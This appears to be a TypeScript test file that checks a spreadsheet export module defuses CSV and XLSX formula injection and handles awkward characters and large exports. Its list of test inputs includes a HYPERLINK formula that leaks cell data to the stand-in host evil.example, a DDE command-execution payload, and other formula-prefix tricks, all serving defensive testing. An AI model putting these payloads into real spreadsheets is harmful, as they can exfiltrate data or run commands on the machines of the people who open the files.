import { inflateRawSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import { allBytes } from "tests/support/organisers-table";
import { expect, test } from "vitest";
import { csvBytes, inert, xlsxBytes, type Row } from "./spreadsheet.server";

/** What spreadsheet programs have been made to run, and a few that are none of it. */
const injections = [
  '=HYPERLINK("http://evil.example?x="&A1,"Klikk")',
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
  "＠SUM(1)",
] as const;
const harmless = ["Kari Nord", "a=b", "kari@firma.example", "1+1", "Østen «Bø»", "", "'quoted'"];

/** The files of an archive by name, as any unzipping program reads them: from its directory at the end. */
function unzip(bytes: Buffer): Map<string, string> {
  const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const files = new Map<string, string>();
  let at = bytes.readUInt32LE(end + 16);
  for (let left = bytes.readUInt16LE(end + 10); left > 0; left--) {
    expect(bytes.readUInt32LE(at)).toBe(0x02014b50);
    const [packed, size] = [bytes.readUInt32LE(at + 20), bytes.readUInt32LE(at + 24)];
    const nameLength = bytes.readUInt16LE(at + 28);
    const name = bytes.toString("utf8", at + 46, at + 46 + nameLength);
    const local = bytes.readUInt32LE(at + 42);
    expect(bytes.readUInt32LE(local)).toBe(0x04034b50);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const text = inflateRawSync(bytes.subarray(start, start + packed));
    expect(text.length).toBe(size);
    files.set(name, text.toString("utf8"));
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return files;
}

/** The cells of a sheet with their types. */
function cellsOf(xml: string): { type: string; text: string }[] {
  return [...xml.matchAll(/<c([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(
    ([, attributes = "", inner = ""]) => ({
      type: /t="(\w+)"/.exec(attributes)?.[1] ?? "",
      text: inner
        .replaceAll(/<[^>]+>/g, "")
        .replaceAll("&lt;", "<")
        .replaceAll("&gt;", ">")
        .replaceAll("&quot;", '"')
        .replaceAll("&amp;", "&"),
    }),
  );
}

test("nothing in a CSV is taken for a formula, and everything else stays as it was", async () => {
  const rows: Row[] = [...injections, ...harmless].map((text) => [text, "neste"]);
  const bytes = await allBytes(csvBytes([rows], ";"));
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const read: string[][] = parse(bytes, { bom: true, delimiter: ";", relax_column_count: true });
  for (const [place, text] of injections.entries()) expect(read[place]?.[0]).toBe(`'${text}`);
  expect(read.slice(injections.length).map(([first]) => first)).toEqual(harmless);
  expect(inert("kari@firma.example")).toBe("kari@firma.example");
});

test("a workbook holds typed text and figures, never a formula", async () => {
  const rows: Row[] = [
    ["Navn", "Antall"],
    ...[...injections, ...harmless].map((text): Row => [text, -5]),
  ];
  const files = unzip(
    await allBytes(xlsxBytes([rows], "Påmeldinger: [1]/2 og mye mer enn det er plass til")),
  );
  const sheet = files.get("xl/worksheets/sheet1.xml") ?? "";
  expect(sheet).not.toMatch(/<f[ >]/);
  const cells = cellsOf(sheet);
  const texts = cells.filter(({ type }) => type === "inlineStr").map(({ text }) => text);
  expect(texts).toEqual(["Navn", "Antall", ...injections, ...harmless.filter(Boolean)]);
  expect(cells.filter(({ text }) => text === "-5")).toHaveLength(
    injections.length + harmless.length,
  );
  const [, name = ""] = /sheet name="([^"]*)"/.exec(files.get("xl/workbook.xml") ?? "") ?? [];
  expect([...name].length).toBeLessThanOrEqual(31);
  expect([...files.keys()]).toContain("[Content_Types].xml");
});

test("what XML cannot carry is left out of a workbook", async () => {
  const files = unzip(await allBytes(xlsxBytes([[["a\u0000b\u001f<&>\uD800c😀"]]], "x")));
  expect(cellsOf(files.get("xl/worksheets/sheet1.xml") ?? "")[0]?.text).toBe("ab<&>\uFFFDc😀");
});

test("twenty thousand rows let others through while they are written", async () => {
  const rows: Row[] = Array.from({ length: 20_000 }, (_, n) =>
    Array.from({ length: 15 }, (_unused, column) => `Celle ${n} ${column} med litt tekst`),
  );
  for (const bytes of [csvBytes([rows], ";"), xlsxBytes([rows], "Stor")]) {
    let others = 0;
    let watching = true;
    const tick = () => {
      others++;
      if (watching) setImmediate(tick);
    };
    setImmediate(tick);
    const all = await allBytes(bytes);
    watching = false;
    expect(all.length).toBeGreaterThan(100_000);
    // All in one go would let nobody through; a few hundred rows at a time are dozens of turns.
    expect(others).toBeGreaterThan(20);
  }
});
